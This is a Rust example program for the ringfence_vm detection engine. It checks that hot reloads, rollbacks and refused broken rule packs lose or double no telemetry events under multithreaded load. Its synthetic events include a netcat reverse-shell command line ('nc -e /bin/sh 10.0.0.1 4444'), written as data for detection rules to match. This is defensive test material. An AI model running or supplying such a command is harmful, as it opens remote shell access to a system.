//! Hot reload under load: worker threads evaluate a stream of events while the main thread
//! reloads the rule pack, rolls back, and tries a broken pack (refused, nothing changes).
//! At the end it counts, per event, how many packs evaluated it: every event exactly once,
//! none lost, none doubled; and the packs' own statistics agree.
//!
//! ```text
//! cargo run --release --example hot_reload -- [--events N] [--threads T] [--swaps S]
//! ```

use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use anyhow::Context;
use ringfence_vm::engine::{Engine, Pack};
use ringfence_vm::event::EventBuf;

#[allow(dead_code)] // tests/engine_examples.rs includes this file and calls `run`.
fn main() -> anyhow::Result<()> {
    let mut config = Config::default();
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        let mut value = || -> anyhow::Result<u64> {
            let v = args
                .next()
                .with_context(|| format!("{arg} takes a number"))?;
            v.parse()
                .with_context(|| format!("{arg} {v}: not a number"))
        };
        match arg.as_str() {
            "--events" => config.events = value()?,
            "--threads" => config.threads = value()? as usize,
            "--swaps" => config.swaps = value()?,
            "--pack" => {
                config.pack = PathBuf::from(args.next().context("--pack takes a directory")?)
            }
            _ => anyhow::bail!(
                "unknown argument {arg}: use --events N --threads T --swaps S --pack DIR"
            ),
        }
    }
    let report = run(&config)?;
    println!("{report}");
    anyhow::ensure!(
        report.lost == 0 && report.doubled == 0,
        "events lost or doubled"
    );
    Ok(())
}

/// What to run.
#[derive(Clone, Debug)]
pub struct Config {
    pub pack: PathBuf,
    pub events: u64,
    pub threads: usize,
    /// Pack changes (reloads and rollbacks) during the stream; every third one is preceded
    /// by a broken pack that is refused.
    pub swaps: u64,
}

impl Default for Config {
    fn default() -> Config {
        Config {
            pack: PathBuf::from("examples/packs/endpoint"),
            events: 100_000,
            threads: 2,
            swaps: 20,
        }
    }
}

/// What happened.
#[derive(Debug)]
pub struct Report {
    pub events: u64,
    pub evaluated: u64,
    pub lost: u64,
    pub doubled: u64,
    pub matches: u64,
    pub reloads: u64,
    pub rollbacks: u64,
    pub refused: u64,
    /// (pack id, events the workers saw it evaluate, events its statistics counted)
    pub per_pack: Vec<(u64, u64, u64)>,
}

impl std::fmt::Display for Report {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        writeln!(
            f,
            "{} reloads, {} rollbacks, {} broken packs refused while {} events streamed",
            self.reloads, self.rollbacks, self.refused, self.events
        )?;
        for (id, seen, counted) in &self.per_pack {
            writeln!(
                f,
                "  pack #{id}: evaluated {seen} events (its statistics: {counted})"
            )?;
        }
        write!(
            f,
            "evaluated {} of {} events, {} matches; lost: {}, doubled: {}",
            self.evaluated, self.events, self.matches, self.lost, self.doubled
        )
    }
}

/// Events shaped like endpoint telemetry, one in eight a netcat reverse shell.
fn event_json(id: u64) -> String {
    match id % 8 {
        0 => format!(
            r#"{{"type": "process_exec", "pid": {id}, "exe": "/usr/bin/nc", "args": ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], "parent_exe": "/bin/bash"}}"#
        ),
        1 | 2 => format!(
            r#"{{"type": "file_open", "pid": {id}, "exe": "/usr/bin/vim", "args": ["vim"], "path": "/home/u/notes.txt"}}"#
        ),
        3 => format!(
            r#"{{"type": "network_connect", "pid": {id}, "exe": "/usr/bin/curl", "daddr": "93.184.216.34", "dport": 443, "protocol": 6}}"#
        ),
        _ => format!(
            r#"{{"type": "process_exec", "pid": {id}, "exe": "/usr/bin/git", "args": ["git", "status"], "parent_exe": "/bin/bash"}}"#
        ),
    }
}

/// A copy of `pack` in which one rule is an object the verifier refuses.
fn broken_copy(pack: &Path) -> anyhow::Result<PathBuf> {
    let dir = std::env::temp_dir().join(format!("ringfence-hot-reload-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir)?;
    for entry in std::fs::read_dir(pack)? {
        let path = entry?.path();
        std::fs::copy(&path, dir.join(path.file_name().context("a file")?))?;
    }
    let refused = pack.join("../../rules/refused/exe_first_byte_unchecked.o");
    std::fs::copy(&refused, dir.join("exe_first_byte.o"))
        .with_context(|| format!("copying {}", refused.display()))?;
    Ok(dir)
}

/// Streams `config.events` events through `config.threads` workers while swapping packs.
pub fn run(config: &Config) -> anyhow::Result<Report> {
    let engine = Engine::builder().build()?;
    engine.load_pack(&config.pack)?;
    let broken = broken_copy(&config.pack)?;
    // Every pack that ran, to read its statistics at the end.
    let mut packs: Vec<Arc<Pack>> = engine.current_pack().into_iter().collect();
    let next = Arc::new(AtomicU64::new(0));
    let swaps_done = Arc::new(AtomicU64::new(0));
    let phases = config.swaps + 1;
    let workers: Vec<_> = (0..config.threads)
        .map(|_| {
            let (engine, next, swaps_done) = (engine.clone(), next.clone(), swaps_done.clone());
            let (events, per_phase) = (config.events, config.events.div_ceil(phases));
            std::thread::spawn(move || -> anyhow::Result<(Vec<(u64, u64)>, u64)> {
                let mut evaluator = engine.evaluator();
                let mut event = EventBuf::new();
                let (mut seen, mut matches) = (Vec::new(), 0);
                loop {
                    let id = next.fetch_add(1, Ordering::Relaxed);
                    if id >= events {
                        return Ok((seen, matches));
                    }
                    // Pace on the swapper: events of phase k wait for k swaps, so the swaps
                    // land inside the stream however fast this machine is.
                    while swaps_done.load(Ordering::Acquire) < id / per_phase {
                        std::thread::yield_now();
                    }
                    engine
                        .encoder()
                        .encode_line(&event_json(id), 1, &mut event)?;
                    let evaluation = evaluator.evaluate(&event)?;
                    matches += evaluation.matched_indices().len() as u64;
                    seen.push((id, evaluation.pack().context("a pack is loaded")?.id));
                }
            })
        })
        .collect();

    let (mut reloads, mut rollbacks, mut refused) = (0, 0, 0);
    for swap in 0..config.swaps {
        if swap % 3 == 2 {
            let before = engine.current().map(|p| p.id);
            let error = engine
                .load_pack(&broken)
                .err()
                .context("the broken pack was accepted")?;
            if refused == 0 {
                eprintln!("{error}");
            }
            anyhow::ensure!(
                engine.current().map(|p| p.id) == before,
                "a refused pack changed the running pack"
            );
            refused += 1;
            engine.rollback()?;
            rollbacks += 1;
        } else {
            engine.load_pack(&config.pack)?;
            packs.extend(engine.current_pack());
            reloads += 1;
        }
        swaps_done.fetch_add(1, Ordering::Release);
    }
    let mut times = vec![0u8; config.events as usize];
    let mut by_pack = std::collections::BTreeMap::<u64, u64>::new();
    let mut matches = 0;
    for worker in workers {
        let (seen, worker_matches) = worker.join().expect("a worker panicked")?;
        matches += worker_matches;
        for (id, pack) in seen {
            times[id as usize] = times[id as usize].saturating_add(1);
            *by_pack.entry(pack).or_default() += 1;
        }
    }
    let _ = std::fs::remove_dir_all(&broken);
    let per_pack = packs
        .iter()
        .map(|pack| {
            let id = pack.info().id;
            (
                id,
                by_pack.get(&id).copied().unwrap_or(0),
                pack.stats().events,
            )
        })
        .collect();
    Ok(Report {
        events: config.events,
        evaluated: times.iter().map(|&t| u64::from(t)).sum(),
        lost: times.iter().filter(|&&t| t == 0).count() as u64,
        doubled: times.iter().filter(|&&t| t > 1).count() as u64,
        matches,
        reloads,
        rollbacks,
        refused,
        per_pack,
    })
}
